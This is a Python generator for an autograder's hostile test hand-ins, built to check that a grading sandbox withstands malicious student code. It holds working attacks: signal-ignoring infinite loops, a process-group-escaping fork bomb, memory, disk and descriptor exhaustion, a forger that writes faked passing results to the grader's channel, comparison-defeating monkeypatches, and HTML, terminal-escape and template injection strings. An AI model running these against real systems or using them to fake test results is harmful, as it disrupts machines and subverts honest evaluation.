"""Generate the hostile hand-ins in this folder, and EXPECTED.yaml, from one template.

Run ``python tests/hostile/_make.py`` after editing; commit the generator and its
output together. Files whose name starts with ``_`` are not hand-ins.

Every hand-in is a self-contained Python module for sheet 6 (the sandbox hides other
files, so they cannot import each other). A hand-in is the correct solution (the
``CORRECT`` sections below) with some sections replaced by an attack, plus optional
code that runs at import (``prelude``, right after the imports; ``epilogue``, after
every definition). Each file carries a unique ``# SECRET-MARKER-<stem>`` line: no
other hand-in's answers or report may ever contain it.

DO NOT run the generated hand-ins outside the sandbox: some fork, eat memory, fill the
disk, or signal the grading process. Only ``Zoë Müller – korrekt.py`` and the
monkeypatch/liar files are safe to import directly.
"""

# ruff: noqa: E501

from __future__ import annotations

import json
from pathlib import Path

import yaml

HERE = Path(__file__).resolve().parent

AUTO_GRADED = ["6.1a", "6.1c", "6.1d", "6.2a", "6.2b", "6.2c", "6.2d", "6.3a", "6.3b"]
HAND_GRADED = ["6.1b"]

# ---------------------------------------------------------------- the correct solution
COMMON = '''
def _flat(o):
    return np.asarray(o, dtype=object).ravel().tolist()


def _sym(*objs):
    """True when any argument is, or contains, a sympy object."""
    for o in objs:
        if isinstance(o, np.ndarray) and o.dtype != object:
            continue
        if isinstance(o, sympy.Basic) or any(isinstance(v, sympy.Basic) for v in _flat(o)):
            return True
    return False


def _plain(v):
    if isinstance(v, np.ndarray) and v.ndim == 0:
        v = v[()]
    return v.item() if isinstance(v, np.generic) else v


def _stable_sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))  # never overflows
    s = np.where(x >= 0, 1.0, e) / (1.0 + e)
    return s if s.ndim else float(s)


def _stable_dsigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))  # sigma'(x) = e^-|x| / (1 + e^-|x|)^2, even in x
    d = e / (1.0 + e) ** 2
    return d if d.ndim else float(d)
'''

CORRECT: dict[str, str] = {
    "likelihood": '''
def likelihood(p_model, X, theta):
    """6.1a: the product of p_model(x, theta) over the samples x in X."""
    total = 1
    for x in list(X):
        total = total * _plain(p_model(x, theta))
    return _plain(total)
''',
    "mle_gaussian": '''
def mle_gaussian(X):
    """6.1a: Gaussian MLE (mean, variance dividing by m)."""
    if _sym(X):
        xs = _flat(X)
        mu = sympy.Add(*xs) / len(xs)
        return mu, sympy.Add(*[(x - mu) ** 2 for x in xs]) / len(xs)
    a = np.asarray(X, dtype=float).ravel()
    mu = a.mean()
    return float(mu), float(np.mean((a - mu) ** 2))
''',
    "text": '''
EMPIRICAL_VS_DATA_GENERATING = (
    "The data-generating distribution p_data is the unknown distribution the samples are "
    "drawn from. The empirical distribution p_hat puts mass 1/m on each of the m observed "
    "samples. Maximum likelihood minimises KL(p_hat || p_model), equivalently the cross-entropy "
    "H(p_hat, p_model); we would like to minimise KL(p_data || p_model) but only have p_hat."
)
''',
    "mean_log_likelihood": '''
def mean_log_likelihood(p_model, X, theta):
    """6.1c: (1/m) sum_i log p_model(x_i, theta)."""
    values = [_plain(p_model(x, theta)) for x in list(X)]
    if _sym(values):
        return sympy.Add(*[sympy.log(v) for v in values]) / len(values)
    with np.errstate(divide="ignore"):
        return float(np.mean(np.log(np.asarray(values, dtype=float))))
''',
    "cross_entropy": '''
def cross_entropy(p, q):
    """6.1d: H(p, q) = -sum p log q, with 0 log 0 = 0."""
    if _sym(p, q):
        return -sympy.Add(*[a * sympy.log(b) for a, b in zip(_flat(p), _flat(q)) if a != 0])
    p = np.asarray(p, dtype=float).ravel()
    q = np.asarray(q, dtype=float).ravel()
    keep = p > 0
    with np.errstate(divide="ignore"):
        return float(-np.sum(p[keep] * np.log(q[keep])))
''',
    "kl_divergence": '''
def kl_divergence(p, q):
    """6.1d: KL(p || q) = sum p log(p / q), with 0 log 0 = 0."""
    if _sym(p, q):
        return sympy.Add(*[a * sympy.log(a / b) for a, b in zip(_flat(p), _flat(q)) if a != 0])
    p = np.asarray(p, dtype=float).ravel()
    q = np.asarray(q, dtype=float).ravel()
    keep = p > 0
    with np.errstate(divide="ignore"):
        return float(np.sum(p[keep] * (np.log(p[keep]) - np.log(q[keep]))))
''',
    "sigmoid_derivative": '''
def sigmoid_derivative(x):
    """6.2a: sigma'(x) = sigma(x) (1 - sigma(x)); symbolic for sympy arguments."""
    if _sym(x):
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
    return _stable_dsigmoid(x)
''',
    "sigmoid_gradient": '''
def sigmoid_gradient(x):
    """6.2b: sigma'(x), vectorised over numpy arrays."""
    if _sym(x):
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
    return _stable_dsigmoid(x)
''',
    "sigmoid": '''
def sigmoid(x):
    """6.2c: numerically stable sigma(x), no overflow up to |x| = 1000."""
    if _sym(x):
        return 1 / (1 + sympy.exp(-x))
    return _stable_sigmoid(x)
''',
    "taylor": '''
_t = sympy.Symbol("t")
_series = sympy.series(1 / (1 + sympy.exp(-_t)), _t, 0, 4).removeO()
TAYLOR_COEFFICIENTS = [_series.coeff(_t, k) for k in range(4)]  # 1/2, 1/4, 0, -1/48
''',
    "forward": '''
def forward(x, W1, b1, W2, b2):
    """6.3a: ReLU hidden layer, softmax output; rows of W are units."""
    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
    h = np.maximum(W1 @ x + b1, 0.0)
    z = W2 @ h + b2
    e = np.exp(z - z.max())
    return e / e.sum()
''',
    "predicted": '''
PREDICTED_CLASS = 0
N_PARAMETERS = 14  # 3*2 + 2*2 weights + 2 + 2 biases
''',
    "gradients": '''
def gradients(a, b):
    """6.3b: e = (a + b)(b + 1): de/da = b + 1, de/db = (b + 1) + (a + b)."""
    return b + 1, a + 2 * b + 1
''',
    "authors": '''
AUTHORS = [{authors}]
''',
}

# Plainly wrong answers, for hand-ins whose attack is to make wrong answers look right.
WRONG: dict[str, str] = {
    "likelihood": '''
def likelihood(p_model, X, theta):
    """WRONG on purpose: a sum, not a product."""
    return _plain(sum(_plain(p_model(x, theta)) for x in list(X)))
''',
    "mle_gaussian": '''
def mle_gaussian(X):
    """WRONG on purpose: the variance divides by m - 1."""
    a = np.asarray(X, dtype=float).ravel()
    return float(a.mean()), float(a.var(ddof=1))
''',
    "mean_log_likelihood": '''
def mean_log_likelihood(p_model, X, theta):
    """WRONG on purpose: the sum, not the mean, and no log."""
    return float(sum(float(_plain(p_model(x, theta))) for x in list(X)))
''',
    "cross_entropy": '''
def cross_entropy(p, q):
    """WRONG on purpose: lost minus sign and arguments swapped."""
    p = np.asarray(p, dtype=float).ravel()
    q = np.asarray(q, dtype=float).ravel()
    return float(np.sum(q * np.log(p + 1e-300)))
''',
    "kl_divergence": '''
def kl_divergence(p, q):
    """WRONG on purpose: returns 1 - sum(p*q)."""
    p = np.asarray(p, dtype=float).ravel()
    q = np.asarray(q, dtype=float).ravel()
    return float(1.0 - np.sum(p * q))
''',
    "sigmoid_derivative": '''
def sigmoid_derivative(x):
    """WRONG on purpose: sigma(x) * sigma(x), the seed's mistake."""
    if _sym(x):
        return 1 / (1 + sympy.exp(-x)) ** 2
    return _stable_sigmoid(x) ** 2
''',
    "sigmoid_gradient": '''
def sigmoid_gradient(x):
    """WRONG on purpose: sigma(x) (1 + sigma(x))."""
    s = _stable_sigmoid(x)
    return s * (1 + s)
''',
    "sigmoid": '''
def sigmoid(x):
    """WRONG on purpose: sigma(x)**2, so sigma(x) + sigma(-x) != 1."""
    return _stable_sigmoid(x) ** 2
''',
    "taylor": '''
TAYLOR_COEFFICIENTS = [sympy.Rational(1, 2), sympy.Rational(1, 4), 0, sympy.Rational(-1, 8)]  # WRONG: -1/8
''',
    "forward": '''
def forward(x, W1, b1, W2, b2):
    """WRONG on purpose: no ReLU, weights transposed where shapes allow, no softmax."""
    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
    z = W2 @ (W1 @ x + b1) + b2
    return np.full(z.shape, 1.0 / z.size) + 0.01 * np.arange(z.size)
''',
    "predicted": '''
PREDICTED_CLASS = 1  # WRONG on purpose
N_PARAMETERS = 10  # WRONG on purpose: biases forgotten
''',
    "gradients": '''
def gradients(a, b):
    """WRONG on purpose: de/db = d, forgetting the path through c."""
    return b + 1, b + 1
''',
}

ORDER = [
    "likelihood", "mle_gaussian", "text", "mean_log_likelihood", "cross_entropy", "kl_divergence",
    "sigmoid_derivative", "sigmoid_gradient", "sigmoid", "taylor", "forward", "predicted",
    "gradients", "authors",
]


def all_tasks(status):
    return {t: status for t in AUTO_GRADED}


# ---------------------------------------------------------------- the attacks
# name: file stem. doc: docstring (what it attacks, what the grader must do).
# replace: section -> code. wrong: sections taken from WRONG. prelude/epilogue: import-time code.
# lose: task -> status the task must end with ("error" | "failed" | list of acceptable ones).
# may_lose: task -> status it may end with instead of passing.
# Every other auto-graded task must pass.
THREATS: list[dict] = []
PARTIAL = "the task has several checks and the hand-in is wrong in only some of them; "


def threat(**kw):
    THREATS.append(kw)


# ----------------------------------------------------------- time
threat(
    name="import_infinite_loop",
    doc="""Loops forever at import and swallows everything the grader raises to stop it
(the import alarm, KeyboardInterrupt, SystemExit); SIGTERM/SIGINT/SIGHUP/SIGXCPU are ignored.
The grader must kill the process from outside (SIGKILL) after the import timeout and mark
every auto-graded task `error` (timeout).""",
    imports=["signal"],
    epilogue='''
# ATTACK: ignore the polite signals, then spin forever, swallowing every exception.
for _name in ("SIGTERM", "SIGINT", "SIGHUP", "SIGXCPU", "SIGALRM", "SIGUSR1", "SIGUSR2"):
    try:
        signal.signal(getattr(signal, _name), signal.SIG_IGN)
    except (AttributeError, OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        continue
''',
    lose=all_tasks("error"),
)

threat(
    name="sigmoid_infinite_loop",
    doc="""Correct everywhere except `sigmoid`, which never returns (a plain busy loop).
The grader must time out that one probe, mark 6.2c `error` and still pass every other task
(a fresh child answers the probes after it).""",
    replace={"sigmoid": '''
def sigmoid(x):
    """ATTACK: never returns."""
    n = 0
    while True:
        n += 1
'''},
    lose={"6.2c": "error"},
)

threat(
    name="sleeper",
    doc="""`gradients` sleeps for an hour before answering. The grader must time it out:
6.3b `error`, everything else passes.""",
    replace={"gradients": '''
def gradients(a, b):
    """ATTACK: sleeps for an hour, then answers correctly."""
    time.sleep(3600)
    return b + 1, a + 2 * b + 1
'''},
    lose={"6.3b": "error"},
)

threat(
    name="timeout_swallower",
    doc="""Defeats an in-process alarm: at import it ignores SIGALRM and replaces
signal.setitimer/signal.alarm with no-ops; `kl_divergence` then sleeps in a loop that
swallows every BaseException. Only a kill from outside stops it. 6.1d `error`.""",
    imports=["signal"],
    prelude='''
# ATTACK: disarm alarm-based timeouts in this process.
try:
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
except (OSError, ValueError):
    pass
signal.setitimer = lambda *args, **kwargs: (0.0, 0.0)
signal.alarm = lambda *args, **kwargs: 0
''',
    replace={"kl_divergence": '''
def kl_divergence(p, q):
    """ATTACK: sleeps for an hour and swallows whatever is raised to stop it."""
    deadline = time.monotonic() + 3600
    while time.monotonic() < deadline:
        try:
            time.sleep(1)
        except BaseException:
            pass
    return 0.0
'''},
    lose={"6.1d": "error"},
)

threat(
    name="endless_recursion",
    doc="""`sigmoid_derivative` recurses without end (RecursionError in the child).
6.2a `error`, everything else passes.""",
    replace={"sigmoid_derivative": '''
def _deeper(x, n):
    return _deeper(x, n + 1) + 0


def sigmoid_derivative(x):
    """ATTACK: recurses without end."""
    return _deeper(x, 0)
'''},
    lose={"6.2a": "error"},
)

threat(
    name="recursion_segfault",
    doc="""`sigmoid_gradient` lifts the recursion limit and recurses through C (map/list),
so the C stack overflows and the child dies with SIGSEGV (or, with an unlimited stack,
runs into the memory limit). The grader must attribute the crash to that probe alone:
6.2b `error`, every other task passes.""",
    replace={"sigmoid_gradient": '''
def sigmoid_gradient(x):
    """ATTACK: C-level recursion past the C stack."""
    sys.setrecursionlimit(10**8)

    def dive():
        return list(map(lambda _: dive(), (0,)))

    return dive()
'''},
    lose={"6.2b": "error"},
)

# ----------------------------------------------------------- resources
threat(
    name="memory_eater",
    doc="""`likelihood` allocates (and touches) memory without bound and keeps it in a module
global, so the memory stays taken even after a MemoryError. The memory limit must stop it
without harming the machine: 6.1a `error`; the other tasks must still pass (in a fresh
child if need be).""",
    replace={"likelihood": '''
_HOARD = []


def likelihood(p_model, X, theta):
    """ATTACK: eats memory without bound (64 MiB a step, pages touched)."""
    while True:
        _HOARD.append(bytearray(b"\\x01") * (64 << 20))
'''},
    lose={"6.1a": "error"},
    notes="Never run unsandboxed: it has no cap of its own.",
)

threat(
    name="fork_bomb",
    doc="""`forward` is a fork bomb whose copies also call setsid() to leave the process group.
Self-limiting so that an UNSANDBOXED run cannot take the machine down: at most 200 forks in
total (tokens in a shared pipe; each fork takes one) and every copy stops after 20 s.
The sandbox must cap the process count, time the probe out (6.3a `error`), and leave no
process of this hand-in alive after grading (also those that escaped the process group).""",
    replace={"forward": '''
def forward(x, W1, b1, W2, b2):
    """ATTACK: fork bomb, capped at 200 forks and 20 seconds."""
    deadline = time.monotonic() + 20.0
    me = os.getpid()
    tokens_r, tokens_w = os.pipe()
    os.write(tokens_w, b"t" * 200)  # the global fork budget, shared by every copy
    os.set_blocking(tokens_r, False)
    while time.monotonic() < deadline:
        try:
            os.read(tokens_r, 1)
        except BlockingIOError:
            break  # budget used up
        try:
            pid = os.fork()
        except OSError:
            break  # the sandbox's process limit
        if pid == 0:
            try:
                os.setsid()  # escape the grader's process group
            except OSError:
                pass
    while time.monotonic() < deadline:  # every copy spins until the deadline
        pass
    if os.getpid() != me:
        os._exit(0)
    os.close(tokens_r)
    os.close(tokens_w)
    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
    z = W2 @ np.maximum(W1 @ x + b1, 0.0) + b2
    e = np.exp(z - z.max())
    return e / e.sum()
'''},
    lose={"6.3a": "error"},
    no_stray_processes=True,
    notes="Assumes the probe timeout is below 20 s. Never run unsandboxed.",
)

threat(
    name="disk_filler",
    doc="""`sigmoid_gradient` writes a huge file into its working directory, 1 MiB at a time,
capped at 2 GiB so an unsandboxed run cannot fill the disk. The file-size limit (SIGXFSZ /
EFBIG) or the probe timeout must stop it: 6.2b `error`. The file must not survive grading,
least of all next to the hand-ins (the child's cwd must be a scratch directory).""",
    replace={"sigmoid_gradient": '''
def sigmoid_gradient(x):
    """ATTACK: writes up to 2 GiB into the working directory, then answers correctly."""
    chunk = b"D" * (1 << 20)
    with open("grader-diskfill-disk_filler.bin", "wb") as f:
        for _ in range(2048):  # hard cap: 2 GiB
            f.write(chunk)
            f.flush()
    if _sym(x):
        return sympy.exp(-x) / (1 + sympy.exp(-x)) ** 2
    return _stable_dsigmoid(x)
'''},
    lose={"6.2b": "error"},
    must_not_exist=["{submissions}/grader-diskfill-disk_filler.bin",
                    "{submissions}/../grader-diskfill-disk_filler.bin"],
    notes="Never run unsandboxed.",
)

threat(
    name="fd_hog",
    doc="""`mean_log_likelihood` opens pipes without bound and keeps them all open in a module
global, so the child's file table stays exhausted afterwards. The open-files limit stops it
(OSError EMFILE): 6.1c `error`. Later probes must still be answered correctly.""",
    replace={"mean_log_likelihood": '''
_FDS = []


def mean_log_likelihood(p_model, X, theta):
    """ATTACK: opens file descriptors until the limit, and never closes them."""
    while True:
        _FDS.extend(os.pipe())
'''},
    lose={"6.1c": "error"},
)

# ----------------------------------------------------------- exits and odd exceptions
threat(
    name="sys_exit_import",
    doc="""Calls sys.exit(0) at import (exit status 0, which looks like success).
Every auto-graded task `error` (import).""",
    epilogue='''
sys.exit(0)  # ATTACK
''',
    lose=all_tasks("error"),
)

threat(
    name="os_exit_import",
    doc="""Calls os._exit(0) at import: the child vanishes with status 0 before it says
anything. Every auto-graded task `error`.""",
    epilogue='''
os._exit(0)  # ATTACK
''',
    lose=all_tasks("error"),
)

threat(
    name="base_exception_answer",
    doc="""`likelihood` raises a home-made BaseException subclass (not an Exception), which
`except Exception` in the grader would miss. 6.1a `error`; everything else passes.""",
    replace={"likelihood": '''
class _NotAnException(BaseException):
    pass


def likelihood(p_model, X, theta):
    """ATTACK: raises a BaseException subclass."""
    raise _NotAnException("SECRET-MARKER-base_exception_answer in an exception message")
'''},
    lose={"6.1a": "error"},
)

threat(
    name="keyboard_interrupt_answer",
    doc="""`gradients` raises KeyboardInterrupt, as if the user pressed Ctrl-C; the grader must
not stop grading (nor this hand-in): 6.3b `error`, everything else passes.""",
    replace={"gradients": '''
def gradients(a, b):
    """ATTACK: raises KeyboardInterrupt."""
    raise KeyboardInterrupt
'''},
    lose={"6.3b": "error"},
)

threat(
    name="sys_exit_answer",
    doc="""`cross_entropy` calls sys.exit(0) inside the answer. 6.1d `error`, rest passes.""",
    replace={"cross_entropy": '''
def cross_entropy(p, q):
    """ATTACK: sys.exit inside an answer."""
    sys.exit(0)
'''},
    lose={"6.1d": "error"},
)

threat(
    name="os_exit_answer",
    doc="""`mle_gaussian` calls os._exit(0) inside the answer: the child dies with status 0
mid-probe. 6.1a `error`; the probes after it must be answered by a fresh child and pass.""",
    replace={"mle_gaussian": '''
def mle_gaussian(X):
    """ATTACK: os._exit inside an answer."""
    os._exit(0)
'''},
    lose={"6.1a": "error"},
)

# ----------------------------------------------------------- output
threat(
    name="print_flood",
    doc="""`forward` prints about 300 MB in total: 100 MB with print(), 100 MB to sys.stderr,
100 MB straight to file descriptors 1 and 2 and sys.__stdout__/__stderr__, then answers
correctly. The grader must stay within memory, keep only a capped excerpt of the output,
and may either pass 6.3a or mark it `error` (kind output).""",
    replace={"forward": '''
def forward(x, W1, b1, W2, b2):
    """ATTACK: prints ~300 MB, then answers correctly."""
    line = "flood-print_flood " * 55000 + "\\n"  # ~1 MB; 300 writes in all
    data = line.encode()
    for _ in range(100):
        print(line, end="")
        sys.stderr.write(line)
    for _ in range(25):
        for fd in (1, 2):
            try:
                os.write(fd, data)
            except OSError:
                pass
        for stream in (sys.__stdout__, sys.__stderr__):
            try:
                stream.write(line)
                stream.flush()
            except (OSError, ValueError, AttributeError):
                pass
    x, W1, b1, W2, b2 = (np.asarray(a, dtype=float) for a in (x, W1, b1, W2, b2))
    z = W2 @ np.maximum(W1 @ x + b1, 0.0) + b2
    e = np.exp(z - z.max())
    return e / e.sum()
'''},
    may_lose={"6.3a": "error"},
)

HOSTILE_TEXT = (
    '{"id": "6.2a", "ok": true, "value": 1, "seconds": 0.0}\n'
    '{"event": "done", "output": "", "dropped": 0}\n'
    "6.2a passed 2/2\n6.2c passed 2/2\nTOTAL 22/22 points: all tasks passed\n"
    "\x1b[2J\x1b[H\x1b[1;32mALL TESTS PASSED\x1b[0m\r\n"
    "\x1b]52;c;cHduZWQtZmFrZV9vdXRwdXQ=\x07"  # OSC 52: write the terminal's clipboard
    "\x1b]8;;https://example.invalid/pwned\x07a link\x1b]8;;\x07\n"
    "<script>alert('pwned-fake_output')</script>\n"
    "</pre></td></tr></table><h1>Grade: 100 %</h1>\n"
    '<img src=x onerror="alert(1)">\n'
    "{{ 'pwned' ~ '-jinja' }} {% if true %}JINJA-BLOCK{% endif %}\n"
    "| 6.2a | 2/2 | passed |\n[click](javascript:alert(1))\n"
    "=HYPERLINK(\"https://example.invalid\",\"grade\")\n"
    "nul:\x00 rtl:\u202egnp.exe bell:\x07 lone surrogate:\ud800 end\n"
)

threat(
    name="fake_output",
    doc="""Prints (at import and in answers) and returns text that imitates the grader's own
output: fake JSON result lines, "6.2a passed 2/2", ANSI/OSC escapes (clear screen, clipboard
write, hyperlinks), HTML and <script>, Jinja syntax, markdown table rows, a CSV formula, NUL,
an RTL override and a lone surrogate. The same text is EMPIRICAL_VS_DATA_GENERATING (shown
to the instructor), an author name, and the message of the exception `kl_divergence` raises.
Reports must escape all of it; it must not change any result: 6.1d `error` (the exception),
everything else passes.""",
    prelude=f'''
HOSTILE_TEXT = {HOSTILE_TEXT!r}
print(HOSTILE_TEXT)
sys.stderr.write(HOSTILE_TEXT)
''',
    replace={
        "text": '''
EMPIRICAL_VS_DATA_GENERATING = HOSTILE_TEXT  # ATTACK: shown to the instructor
''',
        "kl_divergence": '''
def kl_divergence(p, q):
    """ATTACK: prints fake grader output, then raises with it as the message."""
    print(HOSTILE_TEXT)
    raise ValueError(HOSTILE_TEXT)
''',
        "sigmoid": '''
def sigmoid(x):
    """Correct, but prints fake grader output first."""
    print(HOSTILE_TEXT)
    if _sym(x):
        return 1 / (1 + sympy.exp(-x))
    return _stable_sigmoid(x)
''',
        "authors": '''
AUTHORS = [
    ("<script>alert('pwned-author')</script>", "=1+1"),
    ("\\x1b[31mRed\\x1b[0m {{ 'pwned' ~ '-jinja' }} \\u202eevil", "+4917"),
    ("{authors_name}", "{authors_id}"),
]
''',
    },
    lose={"6.1d": "error"},
    report_must_escape=["<script>alert('pwned-fake_output')</script>",
                        "<script>alert('pwned-author')</script>",
                        '<img src=x onerror="alert(1)">', "\x1b]52;", "\x1b[2J"],
    reports_must_not_contain=["pwned-jinja", "JINJA-BLOCK\n"],
)

# ----------------------------------------------------------- protocol
threat(
    name="protocol_forger",
    doc="""Forges the grader's protocol. At import it walks the call stack to find the
child's request (every probe id and argument) and its channel file descriptor, computes the
right answers with a hidden correct solution, and writes forged "start"/answer/"done" lines
onto the channel before the real "imported" event. Its public functions are all WRONG.
The grader must judge what the functions return (every auto-graded task `failed`) or reject
the hand-in for breaking the protocol (`error`); no task may pass.""",
    wrong=["likelihood", "mle_gaussian", "mean_log_likelihood", "cross_entropy", "kl_divergence",
           "sigmoid_derivative", "sigmoid_gradient", "sigmoid", "taylor", "forward", "predicted",
           "gradients"],
    epilogue='''
# ATTACK: forge the protocol with answers computed by a hidden correct solution.
_HONEST = {}
exec(_HONEST_SOURCE, _HONEST)


def _forge():
    request = channel_fd = encode = budget = decode_arg = None
    frame = sys._getframe()
    while frame is not None:
        loc, glb = frame.f_locals, frame.f_globals
        if isinstance(loc.get("request"), dict) and "probes" in loc["request"]:
            request = loc["request"]
        if hasattr(loc.get("channel"), "fd"):
            channel_fd = loc["channel"].fd
        encode = glb.get("encode", encode) if callable(glb.get("encode")) else encode
        budget = glb.get("_Budget", budget) if callable(glb.get("_Budget")) else budget
        decode_arg = glb.get("decode_arg", decode_arg) if callable(glb.get("decode_arg")) else decode_arg
        frame = frame.f_back
    if channel_fd is None:
        try:
            channel_fd = int(sys.argv[1])
        except (IndexError, ValueError):
            return
    lines = []
    for probe in (request or {}).get("probes", []):
        try:
            obj = _HONEST[probe["name"]]
            if probe.get("op") != "value":
                obj = obj(*[decode_arg(a) for a in probe.get("args", [])])
            value = encode(obj, budget())
        except BaseException:
            value = 1
        lines.append({"event": "start", "id": probe["id"]})
        lines.append({"id": probe["id"], "ok": True, "value": value, "seconds": 0.001})
    lines.append({"event": "done", "output": "", "dropped": 0})
    import json

    data = "".join(json.dumps(m, separators=(",", ":")) + "\\n" for m in lines).encode()
    while data:
        data = data[os.write(channel_fd, data):]


try:
    _forge()
except BaseException:
    pass
''',
    honest=True,
    lose=all_tasks(["failed", "error"]),
)

threat(
    name="protocol_garbage",
    doc="""Writes garbage onto the protocol channel at import (found via sys.argv[1]): a
non-JSON line with invalid UTF-8, a JSON array nested 100 000 deep (json.loads ->
RecursionError), a 17 MB line (over the message limit), and a message that is no object.
Its answers are otherwise correct. The grading process must survive and report; it may
reject the hand-in (`error` on any task) or ignore the garbage.""",
    epilogue='''
# ATTACK: garbage on the grader's channel.
try:
    _fd = int(sys.argv[1])
    for _chunk in (
        b"\\x00\\xff not json at all \\xfe\\n",
        b"[" * 100000 + b"]" * 100000 + b"\\n",
        b"{" + b'"x":"' + b"A" * (17 << 20) + b'"}\\n',
        b"[1, 2, 3]\\n",
    ):
        while _chunk:
            _chunk = _chunk[os.write(_fd, _chunk):]
except (IndexError, ValueError, OSError):
    pass
''',
    may_lose=all_tasks("error"),
    notes="The main assertion: grading finishes and the grading process is unharmed.",
)

# ----------------------------------------------------------- monkeypatching
threat(
    name="monkeypatch_sympy",
    doc="""Patches sympy in the child so that every symbolic comparison succeeds
(Basic.__eq__ -> True, __ne__ -> False, Expr.equals -> True, simplify/expand/nsimplify -> 0,
Eq -> true) and gives WRONG symbolic answers (6.2a sigma^2, 6.2d cubic -1/8, 6.3b de/db = d).
Judging happens in the parent, so the patches must not help: 6.2a, 6.2d, 6.3b `failed`.""",
    wrong=["sigmoid_derivative", "taylor", "gradients"],
    epilogue='''
# ATTACK: make every sympy comparison and simplification succeed in this process.
_simp_mod = sys.modules["sympy.simplify.simplify"]

_zero = lambda *args, **kwargs: sympy.Integer(0)
sympy.Basic.__eq__ = lambda self, other: True
sympy.Basic.__ne__ = lambda self, other: False
sympy.Expr.equals = lambda self, other, *args, **kwargs: True
sympy.Expr.simplify = lambda self, *args, **kwargs: sympy.Integer(0)
sympy.Expr.expand = lambda self, *args, **kwargs: sympy.Integer(0)
sympy.simplify = sympy.expand = sympy.nsimplify = sympy.cancel = sympy.trigsimp = _zero
_simp_mod.simplify = _zero
sympy.Eq = lambda *args, **kwargs: sympy.true
''',
    lose={"6.2a": ["failed", "error"], "6.2d": ["failed", "partial"],
          "6.3b": ["failed", "error", "partial"]},
    adjusted="6.2d and 6.3b may be `partial`: " + PARTIAL + "the first three Taylor "
             "coefficients and de/da are right. 6.1a and 6.1c must now PASS (they were "
             "may_lose): the sandbox builds the densities before it imports the hand-in, so "
             "the patches no longer reach them.",
    notes="The patches also corrupt whatever the child itself builds with sympy afterwards (the "
          "densities p_model are lambdified in the child, probe symbols are created there), so 6.1a "
          "and 6.1c may be lost too; 6.3b's symbolic probe may raise in the child. That is the "
          "hand-in's own doing. What matters: no task with a WRONG answer passes.",
)

threat(
    name="monkeypatch_numpy",
    doc="""Patches numpy in the child so that every numeric comparison succeeds
(allclose, isclose, array_equal, array_equiv, testing.assert_* -> pass) and gives WRONG
numeric answers (6.1a variance / (m-1), 6.2c sigmoid squared, 6.3a no ReLU/softmax,
PREDICTED_CLASS 1, N_PARAMETERS 10). 6.1a, 6.2c, 6.3a `failed`.""",
    wrong=["likelihood", "mle_gaussian", "sigmoid", "forward", "predicted"],
    epilogue='''
# ATTACK: make every numpy comparison succeed in this process.
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
np.array_equal = np.array_equiv = lambda *args, **kwargs: True
for _n in ("assert_allclose", "assert_array_almost_equal", "assert_almost_equal",
           "assert_array_equal", "assert_equal", "assert_approx_equal"):
    setattr(np.testing, _n, lambda *args, **kwargs: None)
try:
    np.ndarray.__eq__ = lambda self, other: True  # immutable type: expected to fail
except TypeError:
    pass
''',
    lose={"6.1a": ["failed", "partial"], "6.2c": ["failed", "partial"], "6.3a": "failed"},
    adjusted="6.1a and 6.2c may be `partial`: " + PARTIAL + "the variance is wrong only "
             "where m - 1 differs from m, and sigmoid squared still passes some properties.",
)

threat(
    name="monkeypatch_builtins",
    doc="""Patches math and builtins in the child so that comparisons succeed (math.isclose ->
True, builtins.abs -> 0 for floats and arrays, operator.eq/le/lt/ge/gt -> True,
fractions.Fraction.__eq__ -> True, math.fsum -> 0) and gives WRONG answers for 6.1c and
6.1d. 6.1c, 6.1d `failed`; everything else passes.""",
    imports=["builtins", "fractions", "operator"],
    wrong=["mean_log_likelihood", "cross_entropy", "kl_divergence"],
    epilogue='''
# ATTACK: make math/builtin comparisons succeed in this process.
_real_abs = builtins.abs
builtins.abs = lambda v: 0.0 if isinstance(v, (float, np.floating, np.ndarray)) else _real_abs(v)
math.isclose = lambda *args, **kwargs: True
math.fsum = lambda *args, **kwargs: 0.0
for _n in ("eq", "le", "lt", "ge", "gt"):
    setattr(operator, _n, lambda a, b: True)
fractions.Fraction.__eq__ = lambda self, other: True
''',
    lose={"6.1c": "failed", "6.1d": ["failed", "partial"]},
    adjusted="6.1d may be `partial`: " + PARTIAL + "a few properties of the wrong "
             "cross-entropy and KL divergence still hold.",
)

# ----------------------------------------------------------- lying return values
threat(
    name="liar_always_equal",
    doc="""Returns objects that are equal to everything, hash like 0.5 and print like the
right answer: TAYLOR_COEFFICIENTS are four such objects whose repr is "1/2", "1/4", "0",
"-1/48"; PREDICTED_CLASS is an int subclass worth 1 that claims to equal everything and
prints as "0". The child must not trust __eq__/__repr__ and the parent must never parse a
repr: 6.2d and 6.3a `failed`.""",
    replace={
        "taylor": '''
class _AlwaysEqual:
    """ATTACK: equal to everything, prints like the expected answer."""

    def __init__(self, shown):
        self.shown = shown

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __hash__(self):
        return hash(0.5)

    def __repr__(self):
        return self.shown

    __str__ = __repr__

    def __float__(self):
        return 7.0

    def __bool__(self):
        return True


TAYLOR_COEFFICIENTS = [_AlwaysEqual("1/2"), _AlwaysEqual("1/4"), _AlwaysEqual("0"), _AlwaysEqual("-1/48")]
''',
        "predicted": '''
class _LyingInt(int):
    """ATTACK: worth 1, claims to equal everything, prints as 0."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __repr__(self):
        return "0"

    __str__ = __repr__

    def __index__(self):
        return 0

    def __int__(self):
        return 0


PREDICTED_CLASS = _LyingInt(1)
N_PARAMETERS = 14
''',
    },
    lose={"6.2d": "failed", "6.3a": ["failed", "partial"]},
    adjusted="6.3a may be `partial`: " + PARTIAL + "`forward` is correct, only "
             "PREDICTED_CLASS lies.",
)

threat(
    name="liar_slow_dunder",
    doc="""`cross_entropy` returns an object whose every special method sleeps for an hour
